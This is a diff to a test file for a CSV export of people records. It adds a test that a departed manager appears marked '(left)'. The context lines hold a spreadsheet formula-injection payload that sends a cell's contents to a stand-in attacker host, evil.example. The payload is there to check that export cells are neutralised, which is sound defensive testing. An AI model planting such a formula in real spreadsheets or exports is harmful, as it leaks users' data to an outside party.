@@ -176,6 +176,22 @@ describe('/export/people.csv', () => {
     });
   });
 
+  it('names a manager who has left, marked, as the profile does, rather than leaving the cell empty', async () => {
+    await withEnv(OPEN, async () => {
+      const report = dir.runtime.view.people.list().find((p) => p.managerIds.length === 1 && dir.runtime.view.people.get(p.managerIds[0]!))!;
+      const manager = dir.runtime.view.people.get(report.managerIds[0]!)!;
+      await dir.control('PATCH', `/demo/users/${manager.id}`, { is_active: false });
+      try {
+        await until(() => dir.runtime.view.people.get(manager.id) === undefined, 'the deactivation');
+        const row = (await csv('?sort=name')).rows.find((r) => idOf(r['Profile URL']!) === report.id)!;
+        expect(row.Managers).toBe(`${manager.name} (left)`);
+      } finally {
+        await dir.control('PATCH', `/demo/users/${manager.id}`, { is_active: true });
+        await until(() => dir.runtime.view.people.get(manager.id) !== undefined, 'the reactivation');
+      }
+    });
+  });
+
   it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
     await withEnv(OPEN, async () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
